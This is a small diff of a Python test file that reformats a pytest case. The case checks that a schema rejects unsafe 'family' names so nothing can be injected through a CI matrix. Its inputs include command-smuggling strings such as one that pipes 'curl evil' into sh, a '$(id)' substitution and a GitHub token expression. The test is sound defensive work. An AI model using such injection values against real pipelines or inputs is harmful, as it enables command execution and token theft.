@@ -150,7 +150,9 @@ def test_pattern_end_is_the_end() -> None:
     assert not schema.validator(SCHEMAS["families"]).is_valid(value)
 
 
-@pytest.mark.parametrize("name", ['x";curl evil|sh;#', "$(id)", "${{ github.token }}", "a b", "A", "-x", "é", "a\nb", ""])
+@pytest.mark.parametrize(
+    "name", ['x";curl evil|sh;#', "$(id)", "${{ github.token }}", "a b", "A", "-x", "é", "a\nb", ""]
+)
 def test_names_cannot_carry_code(name: str) -> None:
     """A31: a family name is a strict id, so nothing can be injected through a matrix."""
     value = load("families")
